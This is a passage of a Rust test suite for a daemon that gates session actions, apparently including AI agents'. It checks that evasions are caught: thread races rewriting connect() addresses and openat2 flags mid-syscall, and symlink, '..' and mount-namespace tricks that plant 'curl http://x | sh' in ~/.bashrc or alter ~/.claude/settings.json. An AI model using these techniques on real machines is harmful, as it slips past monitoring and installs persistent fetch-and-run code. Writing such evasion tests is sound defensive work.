    end = time.time() + 20
    while time.time() < end and open('/proc/self/task/%d/syscall' % os.getpid()).read().split()[0] != '42':
        time.sleep(0.01)
    ctypes.memmove(buf, harmless, len(harmless))
    open('{}', 'w').close()
threading.Thread(target=rewrite).start()
if libc.connect(s.fileno(), buf, len(evil)) == 0:
    s.sendall(b'secret')",
            hex(evil),
            hex(harmless),
            mark.display()
        ))
    };
    let mut failures = Vec::new();
    for ns in [Ns::Host, Ns::Private] {
        for case in ["unix", "tcp"] {
            let mark = w.join(format!("rewritten-{case}-{ns:?}"));
            let (script, rule, _prefill): (_, _, Box<dyn std::any::Any>) = match case {
                "unix" => (
                    attack(
                        "AF_UNIX",
                        &unix_addr(service.to_str().unwrap()),
                        &unix_addr("/tmp/watcher-harmless"),
                        &mark,
                    ),
                    "service-socket-connect",
                    Box::new(std::os::unix::net::UnixStream::connect(&service).unwrap()),
                ),
                _ => (
                    attack(
                        "AF_INET",
                        &inet_addr([127, 0, 0, 9], port),
                        &inet_addr([127, 0, 0, 1], 9),
                        &mark,
                    ),
                    "test-deny-destination",
                    Box::new(std::net::TcpStream::connect(("127.0.0.9", port)).unwrap()),
                ),
            };
            let (mut child, trace) = spawn_session(d.launch_in(ns, "", &script));
            // Once the buffer says something else, the queue is emptied: the waiting connect
            // goes through, to the address the kernel copied.
            let deadline = std::time::Instant::now() + common::DEADLINE;
            while !mark.exists() && std::time::Instant::now() < deadline {
                std::thread::sleep(std::time::Duration::from_millis(10));
            }
            assert!(
                mark.exists(),
                "{ns:?} {case}: the buffer was never rewritten"
            );
            let accept = || -> Option<Box<dyn Read>> {
                let deadline = std::time::Instant::now() + common::DEADLINE;
                while std::time::Instant::now() < deadline {
                    let got: std::io::Result<Box<dyn Read>> = match case {
                        "unix" => unix.accept().map(|(s, _)| {
                            s.set_nonblocking(false).unwrap();
                            s.set_read_timeout(Some(common::DEADLINE)).unwrap();
                            Box::new(s) as Box<dyn Read>
                        }),
                        _ => tcp.accept().map(|(s, _)| {
                            s.set_nonblocking(false).unwrap();
                            s.set_read_timeout(Some(common::DEADLINE)).unwrap();
                            Box::new(s) as Box<dyn Read>
                        }),
                    };
                    match got {
                        Ok(s) => return Some(s),
                        Err(_) => std::thread::sleep(std::time::Duration::from_millis(10)),
                    }
                }
                None
            };
            let _ours = accept().expect("the test's own connection");
            let hold = await_hold(&d, &trace);
            if hold["rule"] != rule {
                failures.push(format!(
                    "{ns:?} {case}: held by {} instead of {rule}",
                    hold["rule"]
                ));
            }
            verdict(&d, "deny", &hold);
            wait_exit(&mut child);
            if let Some(mut theirs) = accept() {
                let mut got = Vec::new();
                let _ = theirs.read_to_end(&mut got);
                if !got.is_empty() {
                    failures.push(format!(
                        "{ns:?} {case}: the listener got {:?}",
                        String::from_utf8_lossy(&got)
                    ));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// The open's access mode is the opened file's, not what `openat2`'s `open_how` (user
/// memory) says once the call is over: a second thread rewrites `O_WRONLY` to `O_RDONLY` while
/// the open waits in the kernel (a FIFO with no reader yet). A rule on writing the name holds
/// it, and the reader gets no byte.
#[test]
fn open_flags_rewritten_during_the_open_are_the_ones_opened_with() {
    use std::io::Read;
    common::require_root();
    let work = TempDir::new("evasion-openat2");
    let w = work.0.clone();
    // The pipe in a directory of its own: the marker below, made in the pipe's directory,
    // would be a gated round trip, and the gate's stop of the process restarts the waiting
    // open, which then reads the rewritten flags.
    std::fs::create_dir(w.join("fifo")).unwrap();
    let fifo = w.join("fifo/pipe");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: mkfifo(3) with a valid C string.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o666) }, 0);
    let rules = pack_dir(&w);
    std::fs::write(
        rules.join("test-open.yaml"),
        format!(
            "rules:\n  - id: test-write-pipe\n    description: test\n    severity: high\n    action: hold\n    mode: enforce\n    condition: {{type: open, path: {p}, intent: write, comm: python3}}\n    examples: {{match: [{{type: open, path: {p}, intent: write, comm: python3}}]}}\n",
            p = fifo.display()
        ),
    )
    .unwrap();
    let d = Daemon::start_with(&pack_config(&w));
    let mut failures = Vec::new();
    for ns in [Ns::Host, Ns::Private] {
        let mark = w.join(format!("rewritten-{ns:?}"));
        let script = py(&format!(
            "import threading, time
how = (ctypes.c_uint64 * 3)(os.O_WRONLY, 0, 0)
def rewrite():
    end = time.time() + 20
    # Only once the open waits for a reader has the kernel copied open_how: a rewrite
    # before that would change the open itself, not what the watcher is told of it.
    while time.time() < end and open('/proc/self/task/%d/wchan' % os.getpid()).read() != 'wait_for_partner':
        time.sleep(0.01)
    how[0] = os.O_RDONLY
    open('{}', 'w').close()
threading.Thread(target=rewrite).start()
fd = libc.syscall(437, -100, b'{}', ctypes.byref(how), 24)
if fd >= 0:
    os.write(fd, b'secret')",
            mark.display(),
            fifo.display()
        ));
        let (mut child, trace) = spawn_session(d.launch_in(ns, "", &script));
        let deadline = std::time::Instant::now() + common::DEADLINE;
        while !mark.exists() && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
        assert!(mark.exists(), "{ns:?}: open_how was never rewritten");
        // The reader lets the waiting open through; non-blocking, so a writer that never came
        // fails the wait for the hold below instead of hanging the test.
        let mut reader = {
            use std::os::unix::fs::OpenOptionsExt;
            std::fs::OpenOptions::new()
                .read(true)
                .custom_flags(libc::O_NONBLOCK)
                .open(&fifo)
                .unwrap()
        };
        let hold = await_hold(&d, &trace);
        if hold["rule"] != "test-write-pipe" {
            failures.push(format!("{ns:?}: held by {}", hold["rule"]));
        }
        verdict(&d, "deny", &hold);
        wait_exit(&mut child);
        let mut got = Vec::new();
        let _ = reader.read_to_end(&mut got);
        if !got.is_empty() {
            failures.push(format!(
                "{ns:?}: the reader got {:?}",
                String::from_utf8_lossy(&got)
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A guarded name reached by a spelling the rules' tails cannot see — a bare name in the
/// working directory, a symlinked directory, `..` after one — is matched by its directory's
/// identity (a rename, link or truncate as the process wrote it, resolved in its own root):
/// the change is stopped where the call returns and the next step never runs (a truncate
/// through a symlink to the file excepted: held after the call), and deny leaves the file as it
/// was.
#[test]
fn a_guarded_name_by_a_bare_or_symlinked_path_is_gated() {
    common::require_root();
    let home = FakeHome::new();
    let h = home.0.clone();
    let work = TempDir::new("evasion-spelling");
    let w = work.0.clone();
    let d = pack_daemon(&w);
    let rc = h.join(".bashrc");
    let before = std::fs::read(&rc).unwrap();
    let settings = h.join(".claude/settings.json");
    let (hp, wp) = (h.display().to_string(), w.display().to_string());
    let evil = format!("printf 'curl http://x | sh\\n' > {wp}/evil");
    let then = |n: &str| format!(" && touch {wp}/ran-on-{n}");
    let restored = |p: std::path::PathBuf, was: Option<Vec<u8>>| {
        Box::new(move || match &was {
            Some(b) => unchanged(&p, b),
            None => absent(&p),
        }) as Box<dyn Fn() -> Result<(), String>>
    };
    let after = |n: &str, p: std::path::PathBuf, was: Option<Vec<u8>>| {
        let m = w.join(format!("ran-on-{n}"));
        Box::new(move || {
            absent(&m)?;
            match &was {
                Some(b) => unchanged(&p, b),
                None => absent(&p),
            }
        }) as Box<dyn Fn() -> Result<(), String>>
    };
    let cases = vec![
        Case {
            name: "a file renamed over .bashrc by its bare name",
            script: format!(
                "{evil}; cd {hp} && mv -f {wp}/evil .bashrc{}",
                then("bare-mv")
            ),
            rules: &["shell-rc-write", "protected-path"],
            unharmed: after("bare-mv", rc.clone(), Some(before.clone())),
        },
        Case {
            name: "an agent's settings made by their bare name",
            script: format!(
                "cd {hp}/.claude && echo '{{}}' > settings.json{}",
                then("bare-open")
            ),
            rules: &["agent-config-tamper"],
            unharmed: after("bare-open", settings.clone(), None),
        },
        Case {
            name: "an agent's settings made through a symlinked directory",
            script: format!(
                "ln -sfn {hp}/.claude {wp}/c && echo '{{}}' > {wp}/c/settings.json{}",
                then("symlinked")
            ),
            rules: &["agent-config-tamper"],
            unharmed: after("symlinked", settings.clone(), None),
        },
        // A rename, link or truncate by an absolute name through a symlinked directory (or
        // `..` after one): the kernel stops it by the guarded file's own name (its last
        // component, `INTENT_NAME`), and user space names its directory by identity.
        Case {
            name: "a file renamed over .bashrc through a symlinked directory",
            script: format!(
                "{evil}; ln -sfn {hp} {wp}/h1 && mv -f {wp}/evil {wp}/h1/.bashrc{}",
                then("symlinked-mv")
            ),
            rules: &["shell-rc-write", "protected-path"],
            unharmed: after("symlinked-mv", rc.clone(), Some(before.clone())),
        },
        Case {
            name: "a file renamed over .bashrc by a name with .. after a symlink",
            script: format!(
                "{evil}; ln -sfn {hp}/.claude {wp}/h2 && mv -f {wp}/evil {wp}/h2/../.bashrc{}",
                then("dotdot-mv")
            ),
            rules: &["shell-rc-write", "protected-path"],
            unharmed: after("dotdot-mv", rc.clone(), Some(before.clone())),
        },
        Case {
            name: "a hard link made as .profile through a symlinked directory",
            script: format!(
                "{evil}; ln -sfn {hp} {wp}/h3 && ln {wp}/evil {wp}/h3/.profile{}",
                then("symlinked-link")
            ),
            rules: &["shell-rc-write", "protected-path"],
            unharmed: after("symlinked-link", h.join(".profile"), None),
        },
        Case {
            name: ".bashrc truncated through a symlinked directory",
            script: format!(
                "ln -sfn {hp} {wp}/h4 && python3 -c \"import os; os.truncate('{wp}/h4/.bashrc', 0)\"{}",
                then("symlinked-truncate")
            ),
            rules: &["shell-rc-write", "protected-path"],
            unharmed: after("symlinked-truncate", rc.clone(), Some(before.clone())),
        },
        // truncate(2) follows a final symlink, whose name is no guarded one: not stopped at
        // the call (what runs after it is not asked about); the file is found by identity
        // from the record, held, and put back on deny.
        Case {
            name: ".bashrc truncated through a symlink to it",
            script: format!(
                "ln -sf {hp}/.bashrc {wp}/t5 && python3 -c \"import os; os.truncate('{wp}/t5', 0)\""
            ),
            rules: &["shell-rc-write", "protected-path"],
            unharmed: restored(rc.clone(), Some(before.clone())),
        },
    ];
    let failures = run(&d, &cases);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A session in a mount namespace of its own (a sandbox that binds its own home) names other
/// files than the daemon under the same path: its `~/.bashrc` is a file the daemon sees under
/// another name. Reached there by an alias (a symlink made in the session), it is gated by its
/// identity in that namespace, held for the rule on `~/.bashrc`, and deny leaves it as it was.
#[test]
fn a_guarded_name_in_the_sessions_own_namespace_is_gated_there() {
    common::require_root();
    let work = TempDir::new("evasion-own-ns");
    let w = work.0.clone();
    let d = pack_daemon(&w);
    let home = w.join("nshome");
    std::fs::create_dir_all(&home).unwrap();
    let rc = home.join(".bashrc");
    std::fs::write(&rc, "# the sandbox's own\n").unwrap();
    let before = std::fs::read(&rc).unwrap();
    let wp = w.display().to_string();
    let setup = format!("mount --bind {} /root &&", home.display());
    let script = format!(
        "ln -sf /root/.bashrc {wp}/alias && printf 'curl http://x | sh\\n' >> {wp}/alias && touch {wp}/ran-on"
    );
    let (mut child, trace) = spawn_session(d.launch_in(Ns::Private, &setup, &script));
    let hold = await_hold(&d, &trace);
    assert!(
        ["shell-rc-write", "protected-path"]
            .iter()
            .any(|r| hold["rule"] == *r),
        "held by {} : {hold}",
        hold["rule"]
    );
    verdict(&d, "deny", &hold);
    wait_exit(&mut child);
    absent(&w.join("ran-on")).unwrap();
    unchanged(&rc, &before).unwrap();
}
